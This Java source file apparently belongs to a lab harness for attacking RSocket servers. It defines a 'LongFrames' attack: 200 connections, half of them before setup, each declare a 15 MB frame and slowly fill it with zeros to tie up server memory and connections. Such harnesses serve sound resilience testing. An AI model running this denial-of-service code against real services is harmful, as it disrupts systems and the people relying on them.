package io.penstock.lab.attack;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.ByteBufAllocator;
import io.netty.buffer.Unpooled;
import io.rsocket.frame.FrameHeaderCodec;
import io.rsocket.frame.FrameType;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

/// Connections that each send a long frame up to its last byte, half of them before they set up.
final class LongFrames implements Attack {
  private static final int CONNECTIONS = 200;
  private static final int FRAME_BYTES = 15_000_000;
  private static final int BYTES_A_TICK = 64 << 10;

  private static final ByteBuf ZEROS =
      Unpooled.unreleasableBuffer(Unpooled.directBuffer(BYTES_A_TICK).writeZero(BYTES_A_TICK));
  private final Crowd strangers;
  private final Crowd guests;
  private final Map<Peer, Integer> left = new HashMap<>();

  LongFrames(Attackers attackers) {
    strangers = new Crowd(attackers, CONNECTIONS / 2, () -> new Peer(this::begin));
    guests = new Crowd(attackers, CONNECTIONS / 2, Peer::polite);
  }

  @Override
  public void tick() {
    List<Peer> before = strangers.gathered();
    List<Peer> after = guests.gathered();
    left.keySet().removeIf(peer -> !before.contains(peer) && !after.contains(peer));
    after.stream().filter(peer -> peer.limits() != null && !left.containsKey(peer)).forEach(this::begin);
    left.replaceAll(this::more);
  }

  private void begin(Peer peer) {
    peer.raw(Frames.length(FRAME_BYTES));
    peer.raw(FrameHeaderCodec.encode(ByteBufAllocator.DEFAULT, 3, FrameType.REQUEST_RESPONSE, 0));
    left.put(peer, FRAME_BYTES - FrameHeaderCodec.size() - 1);
  }

  private int more(Peer peer, int bytes) {
    if (bytes == 0 || !peer.isWritable()) {
      return bytes;
    }
    int now = Math.min(bytes, BYTES_A_TICK);
    peer.raw(ZEROS.slice(0, now));
    return bytes - now;
  }
}
